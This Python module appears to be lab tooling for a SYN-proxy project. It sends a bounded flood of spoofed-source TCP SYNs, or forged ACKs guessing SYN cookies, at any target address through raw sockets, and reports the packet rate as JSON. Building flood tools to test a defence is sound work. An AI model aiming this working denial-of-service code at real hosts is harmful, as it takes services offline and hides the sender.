"""A bounded SYN (or forged-ACK) flood with spoofed sources, for the lab's attacker host.

`python3 -m synproxy.lab.flood --target VIP --port 80 --count N --seconds S [--rate PPS] [--ack]` sends
at most N SYNs (or ACKs with random sequence and acknowledgement numbers: blind cookie guesses) for at
most S seconds, as fast as it can or paced to PPS, from random addresses in the spoofed range, and
prints what it sent as JSON.
Packets are built by the packet module (no scapy) from a few templates so the loop stays cheap.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import time

from synproxy.packet import ACK, SYN, build_tcp_options, build_tcp_packet

SPOOFED = ipaddress.ip_network("198.18.128.0/17")
PACE_EVERY = 64  # packets between clock checks (deadline and pacing)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--rate", type=float, default=0, help="packets per second (0: as fast as possible)")
    parser.add_argument("--ack", action="store_true", help="forged ACKs (random cookie guesses) instead of SYNs")
    args = parser.parse_args()
    if args.count <= 0 or not 0 < args.seconds <= 600 or args.rate < 0:
        parser.error("--count must be positive, --seconds between 0 and 600 and --rate not negative")
    target = ipaddress.ip_address(args.target).packed
    flags, options = ((ACK, b"") if args.ack
                      else (SYN, build_tcp_options(mss=1460, wscale=7, sack_permitted=True)))
    first, size = int(SPOOFED.network_address), SPOOFED.num_addresses
    rng = random.Random()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    started = time.monotonic()
    deadline = started + args.seconds
    while sent < args.count:
        source = (first + rng.randrange(size)).to_bytes(4, "big")
        packet = build_tcp_packet(source, target, rng.randrange(1024, 65536), args.port,
                                  rng.getrandbits(32), rng.getrandbits(32) if args.ack else 0, flags, 64240,
                                  options)
        try:
            sock.sendto(packet, (args.target, 0))
            sent += 1
        except BlockingIOError:  # the device queue is full: count nothing, try the next one
            pass
        if sent % PACE_EVERY == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            if args.rate and (ahead := started + sent / args.rate - now) > 0:
                time.sleep(ahead)
    elapsed = time.monotonic() - started
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 2), "rate_pps": round(sent / elapsed)}))


if __name__ == "__main__":
    main()
